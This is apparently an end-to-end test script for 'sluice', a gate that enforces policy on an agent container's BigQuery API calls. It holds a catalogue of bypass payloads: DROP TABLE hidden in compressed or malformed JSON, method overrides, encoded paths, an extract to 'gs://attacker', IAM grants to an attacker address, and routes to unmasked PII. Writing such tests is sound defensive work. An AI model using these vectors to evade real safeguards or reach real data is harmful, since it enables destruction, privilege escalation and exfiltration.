#!/usr/bin/env bash
# Description: an attacker in the enforced container tries to get a denied statement or API
# call past the gate, or masked values out in clear, by HTTP and API tricks rather than SQL:
# compressed and re-encoded bodies, JSON that parsers read differently, method overrides,
# encoded and alternative paths and hosts, batch and upload endpoints, Google's system
# parameters, job configurations whose effect is a denied statement (WRITE_TRUNCATE,
# copies), resources that carry SQL (views, routines, row access policies), and the ways to
# rows that were not computed through the masking rewrite (someone else's job, its
# anonymous result table, table decorators). Policy: production.json's rules with
# pii-masking.json's masks. Every refusal is BigQuery-shaped and names its rule, and the
# stand-in's log shows the request never arrived; a control proves requests do arrive.
# Needs root and cgroup v2.
cd "$(dirname "$0")/../.." || exit 1
. tests/lib/assert.sh
. tests/lib/container.sh
. tests/e2e/lib/gate.sh
ct_require

gate_standin || exit 1
# production.json's rules and default, with the masks of pii-masking.json.
node -e '
  const fs = require("fs");
  const p = JSON.parse(fs.readFileSync("policies/production.json", "utf8"));
  p.masks = JSON.parse(fs.readFileSync("policies/pii-masking.json", "utf8")).masks;
  fs.writeFileSync(process.argv[1], JSON.stringify(p, null, 2));' "$GATE_DIR/policy.json" || exit 1
GATE_POLICY="$GATE_DIR/policy.json"
GATE_HOLD_MS=1000  # a request held for approval is answered (403) after a second
ct_create agent 127.0.0.1
gate_config "$(ct_cgroup agent)" || exit 1
# The legacy and mTLS hosts go to the stand-in too, so "never arrived" means something.
node -e '
  const fs = require("fs"); const [f, port, ca] = process.argv.slice(1);
  const c = JSON.parse(fs.readFileSync(f, "utf8"));
  for (const host of ["www.googleapis.com", "bigquery.mtls.googleapis.com"])
    c.upstream.overrides.push({ host, address: "127.0.0.1:" + port, ca_file: ca });
  fs.writeFileSync(f, JSON.stringify(c, null, 2));' \
  "$GATE_DIR/sluice.json" "$STANDIN_PORT" "$GATE_DIR/standin/ca.pem" || exit 1
gate_start || exit 1
build/sluicectl ca export --cert "$GATE_DIR/ca.pem" > "$GATE_DIR/sluice-ca.pem" || exit 1
gate_warm agent || exit 1

B=$GATE_DIR/bodies
mkdir -p "$B"
LOG=$GATE_DIR/standin.log
P=/bigquery/v2/projects/demo-project

# req.js METHOD HOST PATH BODYFILE|- [HEADER: VALUE]...: one HTTPS request from inside the
# container (the sluice CA trusted, a bearer token, Connection: close); prints "STATUS N" and
# the body (inflated when gzip). Headers are sent as given, duplicates included.
cat > "$GATE_DIR/req.js" <<'JS'
const https = require("https"), fs = require("fs"), zlib = require("zlib");
const [method, host, path, bodyf, ...hs] = process.argv.slice(2);
const headers = ["Host", host, "Authorization", "Bearer agent-token", "Connection", "close"];
let te = false;
for (const h of hs) {
  const i = h.indexOf(":");
  headers.push(h.slice(0, i), h.slice(i + 1).trim());
  if (/^transfer-encoding$/i.test(h.slice(0, i))) te = true;
}
const body = bodyf === "-" ? null : fs.readFileSync(bodyf);
if (body && !te) headers.push("Content-Length", String(body.length));
const r = https.request({ host, port: 443, method, path, servername: host, headers, setHost: false,
  agent: false, ca: fs.readFileSync(process.env.CA) }, res => {
  const parts = [];
  res.on("data", d => parts.push(d));
  res.on("end", () => {
    let b = Buffer.concat(parts);
    try { if (res.headers["content-encoding"] === "gzip") b = zlib.gunzipSync(b); } catch (e) {}
    console.log("STATUS " + res.statusCode + "\n" + b.toString());
  });
});
r.on("error", e => console.log("STATUS 0\n#ERR " + (e.code || e.message)));
r.setTimeout(10000, () => r.destroy(new Error("timeout")));
if (body && te) { r.write(body.subarray(0, 7)); r.write(body.subarray(7)); }
r.end(body && !te ? body : undefined);
JS
# raw.js HOST FILE: FILE's bytes over TLS, as they are (malformed heads); prints the answer.
cat > "$GATE_DIR/raw.js" <<'JS'
const tls = require("tls"), fs = require("fs");
const [host, file] = process.argv.slice(2);
const s = tls.connect({ host, port: 443, servername: host, ca: fs.readFileSync(process.env.CA) },
  () => s.write(fs.readFileSync(file)));
let out = "";
s.on("data", d => { out += d.toString("latin1"); });
const done = why => { console.log(out.replace(/^HTTP\/1\.1 (\d+)/, "STATUS $1") + (why ? "\n#ERR " + why : "")); process.exit(0); };
s.on("end", () => done()); s.on("close", () => done());
s.on("error", e => done(e.code || e.message));
setTimeout(() => done("timeout"), 8000);
JS

# call NAME METHOD PATH BODY [HEADER...]: a request marked ?quotaUser=bp-NAME (a global
# parameter sluice accepts), so the stand-in's log tells whether it arrived. HOST= overrides
# the host.
call() {
  local name=$1 method=$2 path=$3 body=$4; shift 4
  case "$path" in *\?*) path="$path&quotaUser=bp-$name" ;; *) path="$path?quotaUser=bp-$name" ;; esac
  ct_exec agent env CA="$GATE_DIR/sluice-ca.pem" node "$GATE_DIR/req.js" "$method" \
    "${HOST:-bigquery.googleapis.com}" "$path" "$body" "$@" 2>&1
}
raw() { ct_exec agent env CA="$GATE_DIR/sluice-ca.pem" node "$GATE_DIR/raw.js" "${HOST:-bigquery.googleapis.com}" "$1" 2>&1; }
arrived() { grep -qF "quotaUser=bp-$1\"" "$LOG"; }
status_of() { sed -n 's/^STATUS \([0-9]*\).*/\1/p' <<< "$1" | head -1; }
# refused NAME OUT TEXT: a BigQuery-shaped 400/403 from sluice whose message has TEXT, and
# the request never reached the stand-in.
refused() {
  local name=$1 out=$2 text=$3 st
  st=$(status_of "$out")
  TAP_N=$((TAP_N + 1))
  if [[ "$st" =~ ^40[03]$ && "$out" == *"{\"error\": {\"code\": $st, \"message\": \"sluice: "*"$text"* &&
        "$out" == *'"status": "'* ]] && ! arrived "$name"; then
    echo "ok $TAP_N - $name: refused, $st '$text', never reached BigQuery"
  else
    echo "not ok $TAP_N - $name: refused, $st '$text', never reached BigQuery"
    printf '%s\n' "$out" | head -c 700 | sed 's/^/#   agent got: /'; echo
    arrived "$name" && grep -F "quotaUser=bp-$name\"" "$LOG" | head -c 700 | sed 's/^/#   stand-in got: /' && echo
    TAP_FAILED=$((TAP_FAILED + 1))
  fi
}
# The bodies: written once, outside the container.
node - "$B" <<'JS' || exit 1
const fs = require("fs"), z = require("zlib"), d = process.argv[2];
const w = (n, b) => fs.writeFileSync(d + "/" + n, b);
const J = JSON.stringify;
const drop = "DROP TABLE `demo-project.sales.orders`";
w("control", J({ query: "SELECT 1 AS x", useLegacySql: false }));
w("gzip", z.gzipSync(J({ query: drop, useLegacySql: false })));
w("gzip-script", z.gzipSync(J({ query: "SELECT 1;\n" + drop, useLegacySql: false })));
w("gzip-2members", Buffer.concat([z.gzipSync('{"useLegacySql": false, '), z.gzipSync('"query": "' + drop + '"}')]));
w("gzip-trailing", Buffer.concat([z.gzipSync(J({ query: "SELECT 1", useLegacySql: false })), Buffer.from(J({ query: drop }))]));
w("gzip-twice", z.gzipSync(z.gzipSync(J({ query: drop, useLegacySql: false }))));
w("deflate", z.deflateSync(J({ query: drop, useLegacySql: false })));
w("br", z.brotliCompressSync(J({ query: drop, useLegacySql: false })));
w("utf16", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(J({ query: drop, useLegacySql: false }), "utf16le")]));
w("bom", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(J({ query: drop, useLegacySql: false }))]));
w("dupkey", '{"query": "SELECT 1", "useLegacySql": false, "query": "' + drop + '"}');
w("esckey-dup", '{"query": "SELECT 1", "useLegacySql": false, "\\u0071uery": "' + drop + '"}');
w("esckey", '{"\\u0071uery": "\\u0044ROP TABLE `demo-project.sales.orders`", "useLegacySql": false}');
w("escsemi", '{"query": "SELECT 1\\u003b DROP TABLE `demo-project.sales.orders`", "useLegacySql": false}');
w("overlong", Buffer.concat([Buffer.from('{"query": "SELECT 1'), Buffer.from([0xc0, 0xbb]),
  Buffer.from(' ' + drop + '", "useLegacySql": false}')]));
w("nul", '{"query": "SELECT 1\\u0000; ' + drop + '", "useLegacySql": false}');
w("comment", '{"query": "' + drop + '", /* x */ "useLegacySql": false}');
w("nan", '{"query": "' + drop + '", "useLegacySql": false, "timeoutMs": NaN}');
w("hugenum", '{"query": "' + drop + '", "useLegacySql": false, "maxResults": 1' + "0".repeat(400) + '}');
w("deep", '{"query": "' + drop + '", "useLegacySql": false, "labels": ' + "[".repeat(5000) + "]".repeat(5000) + "}");
w("case-key", J({ QUERY: drop, useLegacySql: false }));
w("snake", J({ query: drop, use_legacy_sql: false }));
w("select", J({ query: "SELECT 1", useLegacySql: false }));
w("dryrun", J({ query: drop, useLegacySql: false, dryRun: true }));
w("legacy", J({ query: "SELECT ssn FROM [demo-project:crm.customers]", useLegacySql: true }));
// valid in both dialects: only seeing it as legacy SQL refuses it
w("legacy-str", J({ query: "SELECT 17 AS x", useLegacySql: "true" }));
w("legacy-absent", J({ query: "SELECT 17 AS x" }));
w("legacy-prefix", J({ query: "#legacySQL\nSELECT 17 AS x", useLegacySql: null }));
w("exec-imm", J({ configuration: { query: { query: "EXECUTE IMMEDIATE CONCAT('DR', 'OP TABLE sales.orders')", useLegacySql: false } } }));
w("job-script", J({ configuration: { query: { query: "SELECT 1; TRUNCATE TABLE `demo-project.sales.orders`", useLegacySql: false } } }));
w("extract", J({ configuration: { extract: { sourceTable: { projectId: "demo-project", datasetId: "sales", tableId: "orders" }, destinationUris: ["gs://attacker/o-*.csv"] } } }));
const sales = t => ({ projectId: "demo-project", datasetId: "sales", tableId: t });
w("truncate-query", J({ configuration: { query: { query: "SELECT * FROM `demo-project.sales.orders` WHERE FALSE", useLegacySql: false,
  destinationTable: sales("orders"), writeDisposition: "WRITE_TRUNCATE" } } }));
w("truncate-copy", J({ configuration: { copy: { sourceTable: sales("orders_empty"), destinationTable: sales("orders"), writeDisposition: "WRITE_TRUNCATE" } } }));
const crlf = s => s.replace(/\n/g, "\r\n");
w("batch", crlf('--batch_x\nContent-Type: application/http\nContent-ID: 1\n\nDELETE /bigquery/v2/projects/demo-project/datasets/sales/tables/orders HTTP/1.1\n\n--batch_x--\n'));
w("upload-query", crlf('--up\nContent-Type: application/json; charset=UTF-8\n\n' + J({ configuration: { query: { query: drop, useLegacySql: false } } }) + '\n--up\nContent-Type: text/csv\n\n1,2\n--up--\n'));
w("upload-truncate", crlf('--up\nContent-Type: application/json; charset=UTF-8\n\n' + J({ configuration: { load: { destinationTable: sales("orders"), writeDisposition: "WRITE_TRUNCATE", sourceFormat: "CSV" } } }) + '\n--up\nContent-Type: text/csv\n\n\n--up--\n'));
w("iam-patch", J({ access: [{ role: "OWNER", userByEmail: "attacker@example.com" }] }));
w("expire", J({ expirationTime: String(Date.now() + 1000) }));
w("view-hr", J({ tableReference: { projectId: "demo-project", datasetId: "hr", tableId: "bp_view" }, view: { query: "SELECT 1 AS x", useLegacySql: false } }));
w("view-expire", J({ expirationTime: String(Date.now() + 1000), view: { query: "SELECT 1 AS x", useLegacySql: false } }));
w("routine-hr", J({ routineReference: { projectId: "demo-project", datasetId: "hr", routineId: "bp_fn" }, routineType: "SCALAR_FUNCTION", definitionBody: "(SELECT 1)" }));
w("routine-js", J({ routineReference: { projectId: "demo-project", datasetId: "sales", routineId: "bp_js" }, routineType: "SCALAR_FUNCTION", language: "JAVASCRIPT", definitionBody: "return 1;" }));
w("rap-hr", J({ rowAccessPolicyReference: { projectId: "demo-project", datasetId: "hr", tableId: "salaries", policyId: "bp_all" }, filterPredicate: "(SELECT TRUE)" }));
w("rap-batchdelete", J({ policyIds: ["p1"], force: true }));
w("setiam", J({ policy: { bindings: [{ role: "roles/bigquery.dataOwner", members: ["user:attacker@example.com"] }] } }));
w("insertall-hr", J({ rows: [{ json: { employee_id: 999, salary: 1 } }] }));
JS

# --- the control: a harmless request does arrive (so "never arrived" can fail) ----------------
CT='Content-Type: application/json'
out=$(call control POST $P/queries "$B/control" "$CT")
check_eq "control: a harmless query is answered 200" "$(status_of "$out")" 200
check "control: ... and the stand-in's log shows it arrived" arrived control

# --- the body: compressed, re-encoded, parsed differently ------------------------------------
out=$(call gzip POST $P/queries "$B/gzip" "$CT" 'Content-Encoding: gzip')
refused gzip "$out" "DROP_TABLE on demo-project.sales.orders (statement 1) is denied by rule 'no-destructive-ddl'"
out=$(call gzip-script POST $P/queries "$B/gzip-script" "$CT" 'Content-Encoding: GZIP')
refused gzip-script "$out" "DROP_TABLE on demo-project.sales.orders (statement 2) is denied by rule 'no-destructive-ddl'"
out=$(call chunked-gzip POST $P/queries "$B/gzip" "$CT" 'Content-Encoding: gzip' 'Transfer-Encoding: chunked')
refused chunked-gzip "$out" "is denied by rule 'no-destructive-ddl'"
out=$(call gzip-2members POST $P/queries "$B/gzip-2members" "$CT" 'Content-Encoding: gzip')
refused gzip-2members "$out" "not one complete gzip stream"
out=$(call gzip-trailing POST $P/queries "$B/gzip-trailing" "$CT" 'Content-Encoding: gzip')
refused gzip-trailing "$out" "not one complete gzip stream"
out=$(call gzip-twice POST $P/queries "$B/gzip-twice" "$CT" 'Content-Encoding: gzip, gzip')
refused gzip-twice "$out" 'Content-Encoding \"gzip, gzip\" is refused'
out=$(call gzip-dup-ce POST $P/queries "$B/gzip-twice" "$CT" 'Content-Encoding: gzip' 'Content-Encoding: gzip')
refused gzip-dup-ce "$out" "sluice:"
out=$(call deflate POST $P/queries "$B/deflate" "$CT" 'Content-Encoding: deflate')
refused deflate "$out" 'Content-Encoding \"deflate\" is refused'
out=$(call br POST $P/queries "$B/br" "$CT" 'Content-Encoding: br')
refused br "$out" 'Content-Encoding \"br\" is refused'
out=$(call utf16 POST $P/queries "$B/utf16" 'Content-Type: application/json; charset=UTF-16')
refused utf16 "$out" "must be Content-Type application/json"
out=$(call utf16-bom POST $P/queries "$B/utf16" "$CT")
refused utf16-bom "$out" "invalid JSON body"
out=$(call utf8-bom POST $P/queries "$B/bom" "$CT")
refused utf8-bom "$out" "invalid JSON body"
out=$(call text-plain POST $P/queries "$B/select" 'Content-Type: text/plain')
refused text-plain "$out" "must be Content-Type application/json"
out=$(call no-ctype POST $P/queries "$B/select")
refused no-ctype "$out" "must be Content-Type application/json"
out=$(call dupkey POST $P/queries "$B/dupkey" "$CT")
refused dupkey "$out" "duplicate object key"
out=$(call esckey-dup POST $P/queries "$B/esckey-dup" "$CT")
refused esckey-dup "$out" "duplicate object key"
out=$(call esckey POST $P/queries "$B/esckey" "$CT")
refused esckey "$out" "DROP_TABLE on demo-project.sales.orders (statement 1) is denied by rule 'no-destructive-ddl'"
out=$(call escsemi POST $P/queries "$B/escsemi" "$CT")
refused escsemi "$out" "(statement 2) is denied by rule 'no-destructive-ddl'"
out=$(call overlong POST $P/queries "$B/overlong" "$CT")
refused overlong "$out" "invalid JSON body"
out=$(call nul POST $P/queries "$B/nul" "$CT")
refused nul "$out" "invalid JSON body"
out=$(call comment POST $P/queries "$B/comment" "$CT")
refused comment "$out" "invalid JSON body"
out=$(call nan POST $P/queries "$B/nan" "$CT")
refused nan "$out" "invalid JSON body"
out=$(call hugenum POST $P/queries "$B/hugenum" "$CT")
refused hugenum "$out" "invalid JSON body"
out=$(call deep POST $P/queries "$B/deep" "$CT")
refused deep "$out" "nested deeper than"
out=$(call case-key POST $P/queries "$B/case-key" "$CT")
refused case-key "$out" "carries no query"
out=$(call snake POST $P/queries "$B/snake" "$CT")
refused snake "$out" "only lowerCamelCase"
out=$(call query-in-url POST "$P/queries?query=DROP%20TABLE%20sales.orders" "$B/select" "$CT")
refused query-in-url "$out" 'unknown query parameter \"query\"'
out=$(call dryrun POST $P/queries "$B/dryrun" "$CT")
refused dryrun "$out" "is denied by rule 'no-destructive-ddl'"
out=$(call exec-imm POST $P/jobs "$B/exec-imm" "$CT")
refused exec-imm "$out" "EXECUTE IMMEDIATE"
out=$(call job-script POST $P/jobs "$B/job-script" "$CT")
refused job-script "$out" "TRUNCATE_TABLE on demo-project.sales.orders (statement 2) is denied by rule 'no-destructive-ddl'"

# --- the method: overrides --------------------------------------------------------------------
T=$P/datasets/sales/tables/orders
out=$(call override-delete POST $T - 'X-HTTP-Method-Override: DELETE')
refused override-delete "$out" "bigquery.tables.delete on demo-project.sales.orders is denied by rule 'no-delete-api'"
out=$(call override-on-get GET $T - 'X-HTTP-Method-Override: DELETE')
refused override-on-get "$out" "X-HTTP-Method-Override is accepted on POST only"
out=$(call override-lower POST $T - 'X-HTTP-Method-Override: delete')
refused override-lower "$out" 'override \"delete\" is not used'
out=$(call override-twice POST $T - 'X-HTTP-Method-Override: GET' 'X-HTTP-Method-Override: DELETE')
refused override-twice "$out" "X-HTTP-Method-Override"
out=$(call override-patch-iam POST $P/datasets/crm "$B/iam-patch" "$CT" 'X-HTTP-Method-Override: PATCH')
refused override-patch-iam "$out" "is denied by rule 'no-iam-api'"
k=0
for q in 'method=DELETE' '%24method=DELETE' '$method=DELETE' '$httpMethod=DELETE'; do
  k=$((k + 1)); n=param$k-$(tr -dc 'a-zA-Z' <<< "${q%%=*}")
  out=$(call "$n" GET "$T?$q" -)
  refused "$n" "$out" "unknown query parameter"
done
printf 'POST %s?quotaUser=bp-override-space HTTP/1.1\r\nHost: bigquery.googleapis.com\r\nAuthorization: Bearer t\r\nX-HTTP-Method-Override : DELETE\r\nContent-Length: 0\r\nConnection: close\r\n\r\n' "$T" > "$B/override-space"
out=$(raw "$B/override-space")
check_eq "override-space: 'X-HTTP-Method-Override : DELETE' (space before the colon) is a 400" "$(status_of "$out")" 400
check "... and never reached BigQuery" bash -c "! grep -qF 'quotaUser=bp-override-space\"' '$LOG'"

# --- the path and the host ----------------------------------------------------------------------
out=$(call abs-form DELETE "https://bigquery.googleapis.com$T" -)
refused abs-form "$out" "request target is not a path"
out=$(call enc-slash DELETE $P/datasets/sales%2Ftables%2Forders -)
refused enc-slash "$out" "contains a slash"
out=$(call enc-dots DELETE $P/datasets/sales/tables/%2e%2e -)
refused enc-dots "$out" 'contains \"..\"'
out=$(call dot-segment DELETE $P/datasets/x/../sales/tables/orders -)
refused dot-segment "$out" "unknown BigQuery API path"
out=$(call double-slash DELETE /bigquery/v2//projects/demo-project/datasets/sales/tables/orders -)
refused double-slash "$out" "unknown BigQuery API path"
out=$(call trailing-slash DELETE $T/ -)
refused trailing-slash "$out" "unknown BigQuery API path"
out=$(call upper-prefix DELETE /BigQuery/V2/projects/demo-project/datasets/sales/tables/orders -)
refused upper-prefix "$out" "not a BigQuery v2 API path"
out=$(call matrix DELETE "$T;x=y" -)
refused matrix "$out" "is denied by rule 'no-delete-api'"
out=$(call enc-table DELETE $P/datasets/%73ales/tables/%6frders -)
refused enc-table "$out" "bigquery.tables.delete on demo-project.sales.orders is denied by rule 'no-delete-api'"
for h in www.googleapis.com bigquery.mtls.googleapis.com; do
  out=$(HOST=$h call "ctl-$h" GET $P/datasets -)
  check_eq "control: datasets.list through $h is answered 200" "$(status_of "$out")" 200
  check "... and arrived (so this host's refusals below mean something)" arrived "ctl-$h"
  out=$(HOST=$h call "del-$h" DELETE $T -)
  refused "del-$h" "$out" "is denied by rule 'no-delete-api'"
  out=$(HOST=$h call "gzip-$h" POST $P/queries "$B/gzip" "$CT" 'Content-Encoding: gzip')
  refused "gzip-$h" "$out" "is denied by rule 'no-destructive-ddl'"
done
out=$(HOST=bigquerystorage.googleapis.com call storage-api POST /google.cloud.bigquery.storage.v1.BigQueryRead/CreateReadSession "$B/select" "$CT")
refused storage-api "$out" "not a BigQuery API host"
out=$(call batch POST /batch/bigquery/v2 "$B/batch" 'Content-Type: multipart/mixed; boundary=batch_x')
refused batch "$out" "batch requests are refused"
out=$(call batch-bare POST /batch "$B/batch" 'Content-Type: multipart/mixed; boundary=batch_x')
refused batch-bare "$out" "batch requests are refused"
out=$(call upload-query POST "/upload/bigquery/v2/projects/demo-project/jobs?uploadType=multipart" "$B/upload-query" 'Content-Type: multipart/related; boundary=up')
refused upload-query "$out" "an upload must carry a load job"
out=$(call upload-media POST "/upload/bigquery/v2/projects/demo-project/jobs?uploadType=media" "$B/select" "$CT")
refused upload-media "$out" "uploadType=media is refused"

# --- Google's system parameters, as query parameters and as headers -------------------------
D=$P/datasets/crm/tables/customers/data
k=0
for q in 'alt=media|alt=media is refused' '$alt=media|unknown query parameter' 'fields=rows|fields= is refused' \
         '$fields=rows|unknown query parameter' '%24fields=rows|unknown query parameter' \
         'key=AIzaX|key= is refused' '$key=AIzaX|unknown query parameter' 'callback=f|callback= (JSONP)' \
         '$callback=f|unknown query parameter' '$ct=text/plain|unknown query parameter' \
         '$prettyPrint=false|unknown query parameter' '$outputDefaults=true|unknown query parameter' \
         'access_token=ya29.x|access_token= is refused' 'upload_protocol=raw|unknown query parameter'; do
  k=$((k + 1)); n=sys$k-$(tr -dc 'a-zA-Z' <<< "${q%%=*}")
  out=$(call "$n" GET "$D?${q%%|*}" -)
  refused "$n" "$out" "${q#*|}"
done
out=$(call fieldmask-header GET $D - 'X-Goog-FieldMask: rows')
refused fieldmask-header "$out" "X-Goog-FieldMask"

# --- job configurations and resources whose effect is a denied statement ----------------------
out=$(call extract POST $P/jobs "$B/extract" "$CT")
refused extract "$out" "is denied by rule 'no-extract-jobs'"
out=$(call truncate-query POST $P/jobs "$B/truncate-query" "$CT")
refused truncate-query "$out" "WRITE_TRUNCATE"
out=$(call truncate-copy POST $P/jobs "$B/truncate-copy" "$CT")
refused truncate-copy "$out" "WRITE_TRUNCATE"
out=$(call upload-truncate POST "/upload/bigquery/v2/projects/demo-project/jobs?uploadType=multipart" "$B/upload-truncate" 'Content-Type: multipart/related; boundary=up')
refused upload-truncate "$out" "WRITE_TRUNCATE"
out=$(call expire PATCH $T "$B/expire" "$CT")
refused expire "$out" "is denied by the policy default"
out=$(call view-expire PATCH $T "$B/view-expire" "$CT")
refused view-expire "$out" "bigquery.tables.patch"
out=$(call view-hr POST $P/datasets/hr/tables "$B/view-hr" "$CT")
refused view-hr "$out" "waits for approval"
out=$(call routine-hr POST $P/datasets/hr/routines "$B/routine-hr" "$CT")
refused routine-hr "$out" "waits for approval"
out=$(call routine-js POST $P/datasets/sales/routines "$B/routine-js" "$CT")
refused routine-js "$out" "bigquery.routines.insert on dataset demo-project.sales is denied by the policy default"
out=$(call rap-hr POST $P/datasets/hr/tables/salaries/rowAccessPolicies "$B/rap-hr" "$CT")
refused rap-hr "$out" "waits for approval"
out=$(call rap-delete DELETE $P/datasets/sales/tables/orders/rowAccessPolicies/p1 -)
refused rap-delete "$out" "is denied by the policy default"
out=$(call rap-batchdelete POST $P/datasets/sales/tables/orders/rowAccessPolicies:batchDelete "$B/rap-batchdelete" "$CT")
refused rap-batchdelete "$out" "is denied by the policy default"
out=$(call setiam POST $P/datasets/sales/tables/orders:setIamPolicy "$B/setiam" "$CT")
refused setiam "$out" "is denied by rule 'no-iam-api'"
out=$(call insertall-hr POST $P/datasets/hr/tables/salaries/insertAll "$B/insertall-hr" "$CT")
refused insertall-hr "$out" "waits for approval"
out=$(call dataset-delete DELETE "$P/datasets/sales?deleteContents=true" -)
refused dataset-delete "$out" "is denied by rule 'no-delete-api'"

# --- masked values: every way to rows that were not computed through the rewrite -----------
clear=$(gate_direct "SELECT ssn, email, card_number, name FROM \`demo-project.crm.customers\` WHERE customer_id = 1")
ssn=$(sed -n 1p <<< "$clear"); email=$(sed -n 2p <<< "$clear"); card=$(sed -n 3p <<< "$clear"); name=$(sed -n 4p <<< "$clear")
check "the clear values are known to the test" test -n "$ssn" -a -n "$email" -a -n "$card" -a -n "$name"
never_clear() { # OUTPUT: none of the clear values in it
  local v
  for v in "$ssn" "$email" "$card" "$name" "${ssn:0:4}"; do
    [[ "$1" == *"$v"* ]] && { echo "# leaked '$v':"; printf '%s\n' "$1" | grep -F -- "$v" | head -3 | sed 's/^/#   /'; return 1; }
  done
  return 0
}
# masked NAME OUT: a 200 whose rows hold the masked values only
masked() {
  check "$1: answered 200" test "$(status_of "$2")" = 200
  check "$1: ... with masked values (email keeps its domain only)" grep -qF "XXXXX@${email#*@}" <<< "$2"
  check "$1: ... and no clear value" never_clear "$2"
}
# direct METHOD PATH [JSON]: straight at the stand-in, as another identity would (not through
# the gate); prints the body.
direct() {
  node -e '
  const https = require("https"), fs = require("fs");
  const [port, ca, method, path, body] = process.argv.slice(1);
  const r = https.request({ host: "127.0.0.1", port: +port, method, path, ca: fs.readFileSync(ca),
    servername: "bigquery.googleapis.com",
    headers: { "content-type": "application/json", authorization: "Bearer other-identity" } }, res => {
      let s = ""; res.on("data", d => s += d).on("end", () => console.log(s)); });
  r.end(body || undefined);' "$STANDIN_PORT" "$GATE_DIR/standin/ca.pem" "$@"
}
# outside_job PROJECT JOBID: another identity's query of the clear values, finished.
outside_job() {
  direct POST "/bigquery/v2/projects/$1/jobs" "{\"jobReference\": {\"projectId\": \"$1\", \"jobId\": \"$2\"},
    \"configuration\": {\"query\": {\"useLegacySql\": false, \"query\":
    \"SELECT ssn, email, card_number, name FROM \`demo-project.crm.customers\` WHERE customer_id = 1\"}}}" >/dev/null
  direct GET "/bigquery/v2/projects/$1/queries/$2" | grep -qF -- "$ssn"
}
C=$P/datasets/crm/tables/customers
out=$(call rows-pretty GET $C/data -)
masked "tabledata.list of the masked table, pretty-printed" "$out"
out=$(call rows-gzip GET "$C/data?prettyPrint=false" - 'Accept-Encoding: gzip')
masked "tabledata.list, gzip-compressed by BigQuery" "$out"
out=$(call rows-pct GET /bigquery/v2/projects/demo-project/datasets/%63rm/tables/cust%6fmers/data -)
masked "tabledata.list with %-encoded dataset and table ids" "$out"
out=$(call rows-upper GET /bigquery/v2/projects/demo-project/datasets/CRM/tables/CUSTOMERS/data -)
check "tabledata.list of CRM.CUSTOMERS: no clear value" never_clear "$out"
check "... the case-changed name is still the masked table (sluice fetched its schema first)" \
  grep -qF '"path":"/bigquery/v2/projects/demo-project/datasets/CRM/tables/CUSTOMERS"' "$LOG"
out=$(call rows-selected GET "$C/data?%73electedFields=email" -)
refused rows-selected "$out" "selectedFields is refused"
out=$(call rows-fieldmask GET "$C/data" - 'X-Goog-FieldMask: rows')
check "tabledata.list with X-Goog-FieldMask: no clear value" never_clear "$out"
printf '%s' '{"query": "SELECT ssn FROM `demo-project.crm.customers` WHERE customer_id = 1", "useLegacySql": false}' | gzip > "$B/gzip-masked"
out=$(call gzip-masked POST $P/queries "$B/gzip-masked" "$CT" 'Content-Encoding: gzip')
refused gzip-masked "$out" "must be sent uncompressed"
out=$(call legacy-masked POST $P/queries "$B/legacy" "$CT")
refused legacy-masked "$out" "legacy SQL cannot be masked"
# Legacy SQL (useLegacySql "true", left out, or a #legacySQL prefix) is refused; the query is
# valid standard SQL too, so only reading it as legacy SQL can refuse it. (With masks active
# the masking step refuses it first: its reason is checked by legacy-masked above.)
for n in legacy-str legacy-absent legacy-prefix; do
  out=$(call $n POST $P/queries "$B/$n" "$CT")
  refused $n "$out" ""
done
printf '%s' '{"query": "SELECT ssn, email, card_number, name FROM customers WHERE customer_id = 1", "useLegacySql": false, "defaultDataset": {"datasetId": "crm"}}' > "$B/defds"
out=$(call default-dataset POST $P/queries "$B/defds" "$CT")
masked "jobs.query naming the table through defaultDataset" "$out"
copy() { printf '{"configuration": {"copy": {"sourceTable": {"projectId": "demo-project", "datasetId": "crm", "tableId": "%s"}, "destinationTable": {"projectId": "demo-project", "datasetId": "sales", "tableId": "%s"}}}}' "$1" "$2"; }
copy customers pii_copy > "$B/copy"
out=$(call copy POST $P/jobs "$B/copy" "$CT")
refused copy "$out" "has masked columns"
copy 'customers@-3600000' pii_copy2 > "$B/copy-at"
out=$(call copy-snapshot-decorator POST $P/jobs "$B/copy-at" "$CT")
refused copy-snapshot-decorator "$out" "masked columns"
out=$(call rows-partition-decorator GET "$C\$20250101/data" -)
refused rows-partition-decorator "$out" "masked columns"

# Someone else's job (another identity, straight at BigQuery): its results are refused...
id=$RANDOM
check "another identity's jobs ran on the clear values" bash -c "$(declare -f direct outside_job); ssn='$ssn'
  STANDIN_PORT=$STANDIN_PORT GATE_DIR=$GATE_DIR; outside_job demo-project other_ctl_$id &&
  outside_job demo-project other_cancel_$id && outside_job demo-project other_anon_$id &&
  outside_job other-project victim_$id"
out=$(call foreign-results GET $P/queries/other_ctl_$id -)
refused foreign-results "$out" "was not run through sluice by this identity"
# ... also after the agent cancels it (jobs.cancel answers with the job, "jobId" and all)
out=$(call foreign-cancel POST $P/jobs/other_cancel_$id/cancel -)
check_eq "jobs.cancel of another identity's finished job is answered (job-control is allowed)" "$(status_of "$out")" 200
out=$(call foreign-after-cancel GET $P/queries/other_cancel_$id -)
refused foreign-after-cancel "$out" "was not run through sluice by this identity"
check "... no clear value after a cancel" never_clear "$out"
# ... also when the agent ran a job of the same id in another project
printf '{"jobReference": {"projectId": "demo-project", "jobId": "victim_%s"}, "configuration": {"query": {"query": "SELECT 1 AS x", "useLegacySql": false}}}' "$id" > "$B/same-id"
out=$(call same-id POST $P/jobs "$B/same-id" "$CT")
check_eq "the agent's own job with the id of another project's job runs" "$(status_of "$out")" 200
out=$(call foreign-same-id GET /bigquery/v2/projects/other-project/queries/victim_$id -)
refused foreign-same-id "$out" "was not run through sluice by this identity"
check "... no clear value from the same job id in another project" never_clear "$out"
# ... also through its anonymous result table, named by jobs.get (metadata is allowed)
out=$(call foreign-get GET $P/jobs/other_anon_$id -)
anon=$(sed 1d <<< "$out" | node -e 'let s = ""; process.stdin.on("data", d => s += d).on("end", () => {
  const t = JSON.parse(s).configuration.query.destinationTable; console.log(t.datasetId + "/tables/" + t.tableId); })' 2>/dev/null)
check "jobs.get of another identity's job names its anonymous result table" test -n "$anon"
out=$(call foreign-anon-rows GET "$P/datasets/$anon/data" -)
refused foreign-anon-rows "$out" "sluice"
check "... no clear value from its anonymous result table" never_clear "$out"
tap_done
